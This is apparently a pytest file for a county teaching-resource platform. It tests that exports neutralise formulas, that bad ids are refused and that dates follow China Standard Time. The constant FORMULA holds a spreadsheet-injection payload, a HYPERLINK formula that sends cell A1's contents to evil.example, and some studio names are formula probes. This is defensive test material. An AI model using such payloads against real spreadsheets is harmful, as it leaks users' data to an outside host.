"""Review fixes for statistics and the assessment: exports never carry formulas, bad input never
answers 500, and the year and day follow the county's clock (China Standard Time)."""

from __future__ import annotations

import io
from datetime import datetime

from openpyxl import load_workbook

from library.accounts import service as accounts
from library.assessment import scores
from library.resources.service import IncomingFile, create_resource
from library.studios import service as studios
from tests.support.app import bearer
from tests.support.stats import YEAR, coded_csv_rows

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'


def _evil_output(app, sample_dir, title=FORMULA):
    with app.app_context():
        host = accounts.get_user("wangli")
        return create_resource(host, {
            "title": title, "kind": "paper", "subject": "math", "stage": "primary", "studio": "wang-math",
            "year": str(YEAR), "authors": "王丽", "publish": "true", "visibility": "public",
        }, [IncomingFile.from_path(sample_dir / "校园植物.png")]).id


def test_xlsx_export_keeps_a_formula_like_title_as_text(app, client, known, sample_dir):
    rid = _evil_output(app, sample_dir)
    response = client.get(f"/api/v1/assessment/{YEAR}.xlsx", headers=bearer(known.tokens["admin"]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    formulas = [(ws.title, c.coordinate, c.value) for ws in book for r in ws.iter_rows() for c in r
                if c.data_type == "f"]
    assert formulas == []
    cells = [c for r in book["王丽数学名师工作室"].iter_rows() for c in r if c.value == FORMULA]
    assert len(cells) == 1 and cells[0].data_type == "s"
    assert book["王丽数学名师工作室"].cell(row=cells[0].row, column=3).value == rid


def test_csv_export_neutralises_text_starting_with_a_formula_sign(app, client, known):
    with app.app_context():
        studios.create_studio("evil-studio", "=1+2 工作室", "math", "primary")
        studios.create_studio("minus-studio", "-2+3 工作室", "math", "primary")
    response = client.get(f"/api/v1/assessment/{YEAR}.csv?codes=1", headers=bearer(known.tokens["admin"]))
    rows = coded_csv_rows(response.get_data(as_text=True))
    people = client.get(f"/api/v1/assessment/{YEAR}.csv", headers=bearer(known.tokens["admin"])).get_data(as_text=True)
    assert "'=1+2 工作室" in people and "\n=1+2" not in people
    names = {r["studio"]: r["studio_name"] for r in rows}
    assert names["evil-studio"] == "'=1+2 工作室" and names["minus-studio"] == "'-2+3 工作室"
    assert names["wang-math"] == "王丽数学名师工作室"


def test_activity_ids_that_are_not_plain_or_too_big_are_refused_not_500(client, known):
    host = bearer(known.tokens["host"])
    for ids in ("²", "３", str(10**25), [10**25], [2**31]):
        for field in ("school_ids", "resource_ids"):
            response = client.post("/api/v1/studios/wang-math/activities", headers=host, json={
                "title": "送教下乡", "kind": "outreach", "held_on": "2024-06-01", "participants": 10, field: ids})
            assert response.status_code == 400, (field, ids, response.status_code)


def test_deleting_an_activity_with_a_huge_id_is_refused(client, known):
    from tests.support.app import csrf_token, login

    login(client, "wangli")
    token = csrf_token(client, "/studios/wang-math/activities")
    response = client.post("/studios/wang-math/activities",
                           data={"action": "delete", "activity_id": str(10**25), "csrf_token": token})
    assert response.status_code == 302
    assert "活动记录：" in client.get("/studios/wang-math/activities").get_data(as_text=True)


def test_assessment_and_stats_years_out_of_range_are_client_errors(client, known):
    admin = bearer(known.tokens["admin"])
    for path in ("/api/v1/assessment/abcd", "/api/v1/assessment/99999", "/api/v1/assessment/0000.csv",
                 "/api/v1/assessment/2024.pdf", "/api/v1/studios/wang-math/stats?year=abcd",
                 f"/api/v1/studios/wang-math/stats?year={10**30}", "/api/v1/stats?year=-1"):
        assert client.get(path, headers=admin).status_code in (400, 404), path


def _downloads_of(client, known, year):
    response = client.get(f"/api/v1/studios/wang-math/stats?year={year}", headers=bearer(known.tokens["admin"]))
    return response.json


def test_a_day_and_a_year_are_the_countys_not_utcs(app, client, known):
    """Stored times are UTC; the county lives at UTC+8. New Year's Day at 01:00 in the county is
    2024-12-31 17:00 UTC: it belongs to 2025, and 23:00 and 01:00 local are two days, not one."""
    from library.db import get_session
    from library.lending.models import Loan
    from library.resources.models import Resource
    from tests.support.stats import BROWSER

    with app.app_context():
        from library.stats import usage

        session = get_session()
        teacher = accounts.get_user("zhangsan")
        row = session.get(Resource, known.ids["video2"]).files[0]
        new_year = usage.record_download(teacher, row, 0, user_agent=BROWSER, when=datetime(2024, 12, 31, 17))
        assert new_year.counted and new_year.day.isoformat() == "2025-01-01"
        late = usage.record_download(teacher, row, 0, user_agent=BROWSER, when=datetime(2024, 6, 1, 15))  # 23:00
        early = usage.record_download(teacher, row, 0, user_agent=BROWSER, when=datetime(2024, 6, 1, 17))  # 01:00
        assert late.counted and early.counted  # two local days
        morning = usage.record_download(teacher, row, 0, user_agent=BROWSER, when=datetime(2024, 6, 2, 1))  # 09:00
        assert not morning.counted and morning.reason == "repeat"  # same local day as 01:00
        loan = session.get(Loan, known.loans["plain"])
        loan.granted_at = datetime(2024, 12, 31, 18)  # 2025-01-01 02:00 in the county
        session.commit()
    figures_2024, figures_2025 = _downloads_of(client, known, 2024), _downloads_of(client, known, 2025)
    assert known.loans["plain"] not in figures_2024["loan_ids"]
    assert known.loans["plain"] in figures_2025["loan_ids"]
    assert figures_2025["downloads_by_month"][0] == 1
    assert figures_2024["downloads_by_month"][5] == 2  # June: 23:00 and 01:00 local, not the repeat


def test_a_years_figures_load_only_that_years_outputs(app, known):
    """The city overview and the assessment gather every studio: outputs of other years stay in the
    database (a year's outputs leave it as plain rows: every row the queries on resources return is counted)."""
    from sqlalchemy import event

    from library.db import get_session
    from library.resources.models import Resource
    from library.stats import figures as stats

    with app.app_context():
        session = get_session()
        session.expunge_all()
        loaded: list[int] = []
        event.listen(session, "loaded_as_persistent",
                     lambda _s, obj: loaded.append(obj.id) if isinstance(obj, Resource) else None)
        engine = app.extensions["db_engine"]
        ran: list[tuple[str, object]] = []
        record = lambda _c, _cur, statement, parameters, _ctx, _many: ran.append((statement, parameters))  # noqa: E731
        event.listen(engine, "before_cursor_execute", record)
        try:
            rows = stats.all_studios(YEAR)
        finally:
            event.remove(engine, "before_cursor_execute", record)
        counted = {r.id for row in rows for r in row.resources}
        assert known.ids["paper_2023"] not in counted and known.ids["video1"] in counted
        assert not loaded  # no Resource objects at all
        returned = set()
        with engine.connect() as connection:
            for statement, parameters in ran:
                if statement.startswith("SELECT resources.id"):
                    returned |= {row[0] for row in connection.exec_driver_sql(statement, parameters)}
        assert returned == counted  # nothing loaded only to be dropped


def test_an_output_without_a_year_counts_in_the_countys_year_of_publication(app, known, sample_dir):
    from library.db import get_session
    from library.resources.models import Resource
    from library.stats import figures as stats

    rid = _evil_output(app, sample_dir, title="无年份的论文")
    with app.app_context():
        session = get_session()
        row = session.get(Resource, rid)
        row.year = None
        row.published_at = datetime(2024, 12, 31, 20)  # 2025-01-01 04:00 in the county
        session.commit()
        assert rid not in [r.id for row in stats.all_studios(2024) for r in row.resources]
        assert rid in [r.id for row in stats.all_studios(2025) for r in row.resources]


def test_the_assessment_queries_do_not_grow_with_activities_and_loans(app, known):
    from sqlalchemy import event

    from library.db import get_engine, get_session
    from library.lending.models import Loan
    from library.stats import activities
    from library.stats.schemas import ActivityBody
    from library.validation import parse

    def queries() -> int:
        with app.app_context():
            statements: list[str] = []
            engine = get_engine()
            listener = lambda *args: statements.append(args[2])  # noqa: E731
            event.listen(engine, "before_cursor_execute", listener)
            try:
                for row in scores.evaluate(YEAR):
                    row.figures.as_json()
            finally:
                event.remove(engine, "before_cursor_execute", listener)
            return len(statements)

    before = queries()
    with app.app_context():
        session = get_session()
        host = accounts.get_user("wangli")
        studio = studios.get_studio("wang-math")
        for n in range(4):
            activities.record_activity(host, studio, parse(ActivityBody, {
                "title": f"送教 {n}", "kind": "outreach", "held_on": "2024-10-01", "participants": 5,
                "school_ids": [known.schools["d"]]}))
        for name in ("paper1", "paper2", "award_nat"):
            session.add(Loan(resource_id=known.ids[name], studio_id=studio.id, school_id=known.schools["d"],
                             status="returned", granted_at=datetime(2024, 6, 1, 9), due_on=datetime(2024, 7, 1).date()))
        session.commit()
    assert queries() == before


def test_a_suffix_range_is_a_later_byte_range_not_a_new_download(app, client, sample_dir):
    """'bytes=-500' asks for the last 500 bytes (a player reading an MP4's index): it starts past 0."""
    from sqlalchemy import select

    from library.db import get_session
    from library.stats.models import UsageEvent
    from tests.support.app import build_world, upload
    from tests.support.stats import BROWSER

    world = build_world(app)
    body = upload(client, world.host_token, [sample_dir / "光合作用.pdf"], title="光合作用实验").json
    file_id, size = body["files"][0]["id"], body["files"][0]["size"]
    response = client.get(f"/files/{file_id}/download",
                          headers={"User-Agent": BROWSER, "Range": "bytes=-500", **bearer(world.teacher_token)})
    response.close()
    assert response.status_code == 206
    with app.app_context():
        event = get_session().scalars(select(UsageEvent).where(UsageEvent.kind == "download")).one()
        assert (event.counted, event.reason, event.range_start) == (False, "range", size - 500)


def test_recount_moves_old_utc_days_to_the_countys(app, known):
    from sqlalchemy import select

    from library.db import get_session
    from library.stats import usage
    from library.stats.models import UsageEvent

    with app.app_context():
        session = get_session()
        event = session.scalars(select(UsageEvent).where(UsageEvent.counted.is_(True))).first()
        event.created_at, event.day = datetime(2024, 12, 31, 20), datetime(2024, 12, 31).date()  # as stored before
        session.commit()
        usage.recount()
        assert session.get(UsageEvent, event.id).day.isoformat() == "2025-01-01"
